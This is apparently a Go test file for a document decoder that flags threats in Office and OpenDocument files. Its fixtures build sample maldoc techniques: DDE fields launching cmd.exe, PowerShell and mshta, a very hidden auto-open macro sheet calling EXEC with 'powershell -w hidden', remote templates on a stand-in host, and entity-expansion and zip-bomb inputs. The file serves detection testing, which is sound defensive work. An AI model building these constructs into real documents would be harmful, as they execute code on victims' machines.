package ooxml_test

import (
	"archive/zip"
	"bytes"
	"encoding/base64"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"sluice/inspect"
	"sluice/inspect/child"
	"sluice/inspect/child/childtest"
	"sluice/inspect/child/document/documenttest"
	"sluice/inspect/child/document/ooxml"
	"sluice/internal/shared"
)

// pack writes a package of names and parts, in turn.
func pack(parts ...string) string {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for i := 0; i+1 < len(parts); i += 2 {
		w, _ := z.Create(parts[i])
		w.Write([]byte(parts[i+1]))
	}
	z.Close()
	return b.String()
}

func rels(kind, target string, external bool) string {
	mode := ""
	if external {
		mode = ` TargetMode="External"`
	}
	return `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/` + kind + `" Target="` + target + `"` + mode + `/></Relationships>`
}

func word(body string) string {
	return pack("word/document.xml", `<w:document xmlns:w="x"><w:body>`+body+`</w:body></w:document>`)
}

func field(code, shown string) string {
	return `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>` + code + `</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>` + shown + `</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`
}

func TestCarriersAndTwins(t *testing.T) {
	macroBook := func(state string) string {
		return pack("xl/_rels/workbook.xml.rels", rels("xlMacrosheet", "macrosheets/sheet1.xml", false),
			"xl/workbook.xml", `<workbook><sheets><sheet name="Macro1" `+state+` r:id="rId1"/></sheets><definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames></workbook>`,
			"xl/macrosheets/sheet1.xml", `<xm:macrosheet><sheetData><row><c><f>EXEC("powershell -w hidden")</f></c><c><f>HALT()</f></c></row></sheetData></xm:macrosheet>`)
	}
	documenttest.Run(t, ooxml.Decoder{}, []documenttest.Case{
		{Name: "letter", Type: "docx", Body: word(`<w:p><w:r><w:t>Dear reader,</w:t></w:r></w:p>`), Clean: true},
		{Name: "template from elsewhere", Type: "docx", Body: pack("word/_rels/settings.xml.rels", rels("attachedTemplate", "https://drop.example/t.dotm", true)), Want: []string{"REMOTE_TEMPLATE https://drop.example/t.dotm", "link auto https://drop.example/t.dotm"}},
		{Name: "template at home", Type: "docx", Body: pack("word/_rels/settings.xml.rels", rels("attachedTemplate", `file:///C:\Users\me\Normal.dotm`, true)), Clean: true},
		{Name: "object from elsewhere", Type: "docx", Body: pack("word/_rels/document.xml.rels", rels("oleObject", "mhtml:https://drop.example/x.html!x-usc:https://drop.example/x.html", true)), Has: []string{"REMOTE_OBJECT mhtml:https://drop.example/x.html!x-usc:https://drop.example/x.html"}},
		{Name: "frame from a share", Type: "docx", Body: pack("word/_rels/webSettings.xml.rels", rels("frame", `\\drop.example\x\y.htm`, true)), Want: []string{`REMOTE_OBJECT \\drop.example\x\y.htm`, `link auto \\drop.example\x\y.htm`}},
		{Name: "hyperlink", Type: "docx", Body: pack("word/_rels/document.xml.rels", rels("hyperlink", "https://example.org/", true)), Want: []string{"link anchor https://example.org/"}},
		{Name: "picture from elsewhere", Type: "docx", Body: pack("word/_rels/document.xml.rels", rels("image", "https://example.org/p.png", true)), Want: []string{"link auto https://example.org/p.png"}},
		{Name: "picture inside", Type: "docx", Body: pack("word/_rels/document.xml.rels", rels("image", "media/image1.png", false)), Clean: true},
		{Name: "embedded object", Type: "docx", Body: pack("word/_rels/document.xml.rels", rels("oleObject", "embeddings/oleObject1.bin", false)), Want: []string{"EMBEDDED_OBJECT oleObject1.bin"}},
		{Name: "dde field", Type: "docx", Body: word("<w:p>" + field(`DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"`, "!") + "</w:p>"), Want: []string{`DDE_COMMAND c:\\windows\\system32\\cmd.exe "/k calc"`, "CODE_RUNS cmd.exe"}},
		{Name: "dde field in one", Type: "docx", Body: word(`<w:fldSimple w:instr="DDE cmd.exe &quot;/c calc&quot;"/>`), Want: []string{`DDE_COMMAND cmd.exe "/c calc"`, "CODE_RUNS cmd.exe"}},
		{Name: "page field", Type: "docx", Body: word("<w:p>" + field(`PAGE \* MERGEFORMAT`, "7") + "</w:p>"), Clean: true},
		{Name: "chunk of html", Type: "docx", Body: pack("word/_rels/document.xml.rels", rels("aFChunk", "afchunk.mht", false)), Want: []string{"EMBEDDED_OBJECT afchunk.mht"}},
		{Name: "control", Type: "docx", Body: pack("word/_rels/document.xml.rels", rels("control", "activeX/activeX1.xml", false)), Want: []string{"ACTIVE_CONTROL activeX1.xml"}},

		{Name: "hidden sheet of macros", Type: "xlsx", Body: macroBook(`state="veryHidden"`), Want: []string{"SHEET_MACRO Macro1", "SHEET_HIDDEN very hidden: Macro1", "MACRO_AUTORUN _xlnm.Auto_Open", "CODE_RUNS EXEC", "CODE_RUNS powershell", "CODE_EVADES -w hidden"}},
		{Name: "hidden sheet of numbers", Type: "xlsx", Body: pack("xl/_rels/workbook.xml.rels", rels("worksheet", "worksheets/sheet1.xml", false), "xl/workbook.xml", `<sheets><sheet name="Data" state="hidden" r:id="rId1"/></sheets>`, "xl/worksheets/sheet1.xml", `<c><f>SUM(A1:A9)</f><v>45</v></c>`), Clean: true},
		{Name: "dde link", Type: "xlsx", Body: pack("xl/externalLinks/externalLink1.xml", `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c powershell"/></externalLink>`), Want: []string{"DDE_COMMAND cmd|/c powershell", "CODE_RUNS powershell"}},
		{Name: "dde in a cell", Type: "xlsx", Body: pack("xl/worksheets/sheet1.xml", `<c><f>cmd|'/c mshta'!A1</f></c>`), Want: []string{"DDE_COMMAND cmd|'/c mshta'!A1", "CODE_RUNS mshta"}},
		{Name: "links in cells", Type: "xlsx", Body: pack("xl/worksheets/sheet1.xml", `<c><f>HYPERLINK("https://example.org/a","x")</f></c>`), Want: []string{"link anchor https://example.org/a"}},
		{Name: "fetching cell", Type: "xlsx", Body: pack("xl/worksheets/sheet1.xml", `<c><f>WEBSERVICE("https://drop.example/")</f></c>`), Want: []string{"CODE_FETCHES WEBSERVICE", "link auto https://drop.example/"}},
		{Name: "ribbon", Type: "xlsx", Body: pack("customUI/customUI.xml", `<customUI onLoad="Start"/>`), Want: []string{"MACRO_AUTORUN customUI Start"}},

		{Name: "slide that runs", Type: "pptx", Body: pack("ppt/slides/_rels/slide1.xml.rels", rels("hyperlink", "powershell.exe%20-NoP", true), "ppt/slides/slide1.xml", `<a:hlinkMouseOver r:id="rId1" action="ppaction://program"/>`), Want: []string{"ACTION_RUNS program powershell.exe -NoP", "CODE_RUNS powershell", "CODE_EVADES -nop"}},
		{Name: "slide with a macro", Type: "pptx", Body: pack("ppt/slides/slide1.xml", `<a:hlinkClick r:id="" action="ppaction://macro?name=Go"/>`), Want: []string{"ACTION_RUNS macro macro?name=Go"}},
		{Name: "slide that turns", Type: "pptx", Body: pack("ppt/slides/slide1.xml", `<a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/>`), Clean: true},

		{Name: "open document with basic", Type: "odf", Body: pack("content.xml", `<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main"/><text:p>Dear <text:span>reader</text:span></text:p>`, "Basic/Standard/M.xml", `<script:module>Sub Main: Shell("cmd.exe /c calc"): End Sub</script:module>`), Want: []string{
			"MACRO_AUTORUN dom:load vnd.sun.star.script:Standard.M.Main", "MACRO_CODE Basic", "CODE_RUNS shell", "CODE_RUNS cmd.exe"}},
		{Name: "open document", Type: "odf", Body: pack("content.xml", `<text:p>Dear <text:a xlink:href="https://example.org/">reader</text:a></text:p>`), Want: []string{"link anchor https://example.org/"}},
		{Name: "flat with binary", Type: "wordxml", Body: `<w:wordDocument><w:binData w:name="editdata.mso">` + base64.StdEncoding.EncodeToString([]byte(strings.Repeat("x", 99))) + `</w:binData></w:wordDocument>`, Want: []string{"file data.bin bin 99"}},
	})
}

func TestText(t *testing.T) {
	for _, c := range []struct {
		typ        inspect.Type
		body, want string
	}{
		{inspect.DOCX, word("<w:p><w:r><w:t>Dear </w:t></w:r>" + field("PAGE", "7") + "<w:tab/><w:t>x</w:t></w:p><w:p><w:t>end</w:t></w:p>"), "Dear 7 x\nend\n"},
		{inspect.ODF, pack("content.xml", "<text:p>Dear <text:span>reader</text:span>, hello</text:p>"), "Dear reader, hello\n"},
		{inspect.XLSX, pack("xl/sharedStrings.xml", "<sst><si><t>a</t></si><si><r><t>b</t></r></si></sst>"), "a\nb\n"},
		{inspect.PPTX, pack("ppt/slides/slide1.xml", "<a:p><a:r><a:t>title</a:t></a:r></a:p>"), "title\n"},
	} {
		if got := documenttest.Text(childtest.One(t, ooxml.Decoder{}, "a", c.typ, []byte(c.body)), inspect.OriginBody); got != c.want {
			t.Errorf("%s: %q, want %q", c.typ, got, c.want)
		}
	}
}

// Published documents as Office writes them. Their macros stand in vbaProject.bin,
// which the decoder of archives emits.
func TestSuite(t *testing.T) {
	dir := shared.Dir(t, "suites", "eicar")
	want := map[string][]string{
		"eicar-excel-dde-cmd-powershell-echo.xlsx":     {"CODE_OBFUSCATED", "CODE_RUNS", "DDE_COMMAND"},
		"eicar-powerpoint-action-powershell-echo.pptx": {"ACTION_RUNS", "CODE_EVADES", "CODE_OBFUSCATED", "CODE_RUNS"},
		"eicar-powerpoint-action-macro-msgbox.pptm":    {"ACTION_RUNS"},
		"eicar-word-macro-cmd-echo.docm":               nil,
	}
	for _, name := range slices.Sorted(maps.Keys(want)) {
		b, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		typ := inspect.Type(strings.TrimPrefix(filepath.Ext(name), ".")[:3] + "x")
		r := childtest.One(t, ooxml.Decoder{}, name, typ, b)
		var got []string
		for _, f := range r.Facts {
			got = append(got, string(f.Kind))
		}
		slices.Sort(got)
		if d := cmp.Diff(want[name], slices.Compact(got)); d != "" {
			t.Errorf("%s (-want +got):\n%s%v", name, d, r.Facts)
		}
		if strings.HasSuffix(name, "m") != r.Files[0].Class.Has(inspect.Macro) {
			t.Errorf("%s: %s", name, r.Files[0].Class)
		}
	}
}

func TestHostile(t *testing.T) {
	for name, body := range map[string]string{
		"no archive":     "PK\x03\x04",
		"deep elements":  word(strings.Repeat("<a>", 1<<18)),
		"attributes":     word("<a " + strings.Repeat(`b="c" `, 1<<17) + ">"),
		"fields":         word(strings.Repeat(`<w:fldChar w:fldCharType="begin"/>`, 1<<15)),
		"entities":       pack("word/document.xml", `<!DOCTYPE a [<!ENTITY b "`+strings.Repeat("c", 1000)+`">]><w:t>`+strings.Repeat("&b;", 1<<15)+`</w:t>`),
		"bomb":           pack("word/document.xml", strings.Repeat(" ", 48<<20)),
		"relations":      pack("word/_rels/document.xml.rels", strings.Repeat(rels("oleObject", "http://a.example/", true), 1<<14)),
		"not characters": pack("word/document.xml", "<w:t>\xff\xfe\x00</w:t>"),
	} {
		t.Run(name, func(t *testing.T) {
			r := childtest.One(t, ooxml.Decoder{}, "a.docx", "docx", []byte(body))
			if childtest.Has(r, inspect.DecoderPanic, "") || r.Exhausted.Has(inspect.LimitTime) {
				t.Error(r.Facts, r.Exhausted)
			}
		})
	}
}

// flat lets the fuzzer reach the parts without having to write an archive.
func FuzzOpen(f *testing.F) {
	f.Add([]byte(`<w:document><w:p>` + field("DDE x", "y") + `<w:fldSimple w:instr="QUOTE 65 66"/><w:binData>QUJD</w:binData></w:p><sheet r:id="a" state="hidden"/><f>a|'b'!c</f><text:p>a</text:p></w:document>`))
	f.Add([]byte(pack("word/_rels/document.xml.rels", rels("hyperlink", "http://a.example/", true), "word/document.xml", "<a/>")))
	f.Fuzz(func(t *testing.T, b []byte) {
		childtest.Bytes(t, ooxml.Decoder{}, inspect.WordXML, b)
		childtest.Bytes(t, ooxml.Decoder{}, inspect.DOCX, b)
	})
}

func BenchmarkOpen(b *testing.B) {
	body := []byte(word(strings.Repeat(`<w:p><w:r><w:rPr><w:b/></w:rPr><w:t xml:space="preserve">A line of an honest report. </w:t></w:r></w:p>`, 20_000)))
	var d child.Decoder = ooxml.Decoder{}
	b.SetBytes(20_000 * 104) // as unpacked
	for b.Loop() {
		childtest.One(b, d, "a.docx", "docx", body)
	}
}
